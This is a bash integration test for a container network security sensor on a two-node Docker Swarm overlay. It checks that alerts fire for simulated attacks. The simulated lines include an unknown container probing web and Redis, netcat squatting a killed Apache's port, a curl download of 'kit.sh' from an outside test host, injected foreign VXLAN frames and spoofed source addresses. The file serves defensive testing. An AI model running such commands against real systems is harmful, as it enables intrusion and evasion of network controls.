#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# S11: squatter, stranger and kit with client and server on two nodes of a Swarm overlay, a sensor on each: the same findings,
# both ends named. And what is wrong below the networks: VXLAN of a stranger, an encrypted network's frames in clear, a source
# address that is not its own.
set -u
# shellcheck source=tests/scenarios/lib.sh
. "$(dirname "$0")/lib.sh"
docker_begin
lab_swarm a b
lab_outside b
lab_plug stranger eth0 10.199.0.66/24
lab_image a pg-web pg-many
lab_image b pg-many
lab_docker a network create -d overlay --attachable --subnet 10.60.0.0/24 blue >/dev/null
lab_docker a network create -d overlay --attachable --opt encrypted --subnet 10.61.0.0/24 secret >/dev/null
on() { # ENGINE NAME ARG...
	local engine=$1 name=$2
	shift 2
	lab_docker "$engine" run -d --name "$name" --network blue "$@" >/dev/null || lab_fail "docker run $name"
}
on a web pg-web sh -c 'sleep infinity & setsid -w apache2ctl -DFOREGROUND; wait'
on a db pg-many redis-server --bind 0.0.0.0 --protected-mode no
on b cli pg-many sh -c 'while sleep 0.4; do curl -s -m 2 -o /dev/null http://web/; done'
on b cli2 pg-many sh -c 'while sleep 0.4; do redis-cli -h db ping; done'
on b victim -v "$LAB_BUILD/tests/helpers/sneak:/usr/local/bin/sneak:ro" pg-many node /srv/node/app.js
on a cli3 pg-many sh -c 'while sleep 0.4; do curl -s -m 2 -o /dev/null http://victim:3000/; done'
lab_in outside ip addr add 203.0.113.66/24 dev eth0
mkdir -p "$LAB_DIR/kit"
printf '%s' "$SC_KIT" >"$LAB_DIR/kit/kit.sh"
(cd "$LAB_DIR/kit" && lab_in outside setsid python3 -m http.server 8088 >/dev/null 2>&1 & echo $! >"$LAB_DIR/kit.pid")
lab_defer sh -c "kill \$(cat $LAB_DIR/kit.pid) 2>/dev/null; true"
for s in a b; do
	scenario_config "$s"
	scenario_feeds "$s"
	sensor_start "$s" "$(lab_socket "$s")"
done
learned() {
	sensor "$1" model list --json | jq -e --argjson n "$2" 'length >= $n and ([.[].dimensions[] | select(.state == "learning")] | length == 0)' >/dev/null
}
# what the Swarm restarts and moves every day
lab_docker b restart -t 1 cli2 >/dev/null
lab_docker a exec web apache2ctl graceful
ok "node a has learned" until_true 90 learned a 3
ok "node b has learned" until_true 90 learned b 3

told() { # SENSOR SINCE: "FINDING CONTAINER PROCESS PEER absorbed"
	sensor "$1" alerts --json --all | jq -r --arg t "$2" '.[] | select(.time >= $t) | [.finding, .container, .process, .peer, (.absorbed_by // "-")]
		| map(if . == "" then "-" else . end | gsub("[\\s]"; "_")) | join(" ")'
}
find_() { # SENSOR SINCE PATTERN
	local line
	while read -r line; do
		# shellcheck disable=SC2053 # a pattern
		[[ $line == $3\ * ]] && return 0
	done < <(told "$1" "$2")
	told "$1" "$2"
	return 1
}
found() { ok "$1" until_true 5 find_ "${@:2}"; }
silent() { local out; out=$(told "$1" "$2" | grep ' -$'); [ -z "$out" ] || { printf '%s\n' "$out"; return 1; }; }

since=$(now_iso)
lab_docker a exec web apache2ctl graceful
lab_docker b restart -t 1 cli >/dev/null
sleep 4
ok "S11: the same traffic, learned: silent (node a)" silent a "$since"
ok "S11: the same traffic, learned: silent (node b)" silent b "$since"

since=$(now_iso)
on b evil pg-many sh -c 'sleep 0.3; curl -s -m 3 http://web/ >/dev/null; nc -z -w 2 db 6379; sleep 60'
found "S6 over the overlay: the server's node names both ends" a "$since" "peer.unlinked web * evil"
[ -z "${SC_DEBUG:-}" ] || { sensor a model show pg-web/web; sensor a map | head -30; sensor a flows | grep -E ":80|evil" | head; sensor a status | grep -i loss; }
found "S6 over the overlay: the database too" a "$since" "peer.unlinked db * evil"

since=$(now_iso)
lab_docker a exec -d web sh -c 'read p </var/run/apache2/apache2.pid; kill $p; sleep 0.7; until nc -l -p 80; do sleep 0.2; done'
found "S3 over the overlay: the squatter" a "$since" "listener.squatted web /usr/bin/nc.openbsd *"

since=$(now_iso)
lab_docker b exec victim sh -c 'curl -s -o /tmp/kit.sh http://203.0.113.66:8088/kit.sh'
found "S8 on a node of the Swarm: the address" b "$since" "intel.ip victim /usr/bin/curl ext:203.0.113.66"
found "S8 on a node of the Swarm: the file" b "$since" "intel.file victim * /tmp/kit.sh"

since=$(now_iso)
vni() { lab_docker a network inspect "$1" | jq -r '.[0].Options["com.docker.network.driver.overlay.vxlanid_list"]'; }
lab_in stranger "$LAB_BUILD/tests/helpers/sneak" vxlan 10.199.0.1 "$(vni blue)"
found "VXLAN from an address that is no member" a "$since" "overlay.foreign-vtep - - ext:10.199.0.66"
since=$(now_iso)
lab_in b "$LAB_BUILD/tests/helpers/sneak" vxlan 10.199.0.1 99
found "VXLAN of a member with a VNI that is nobody's" a "$since" "overlay.foreign-vtep - - ext:10.199.0.2"
since=$(now_iso)
lab_in b "$LAB_BUILD/tests/helpers/sneak" vxlan 10.199.0.1 "$(vni secret)"
found "a clear frame of an encrypted network" a "$since" "overlay.cleartext - - ext:10.199.0.2"
since=$(now_iso)
lab_docker b exec victim sneak spoof 10.60.0.77 9999 10.60.0.99
lab_docker b exec victim sneak spoof 203.0.113.9 9999 8.8.4.4
found "a source address that is not the container's" b "$since" "identity.spoofed victim /usr/local/bin/sneak ext:203.0.113.9"
docker_end
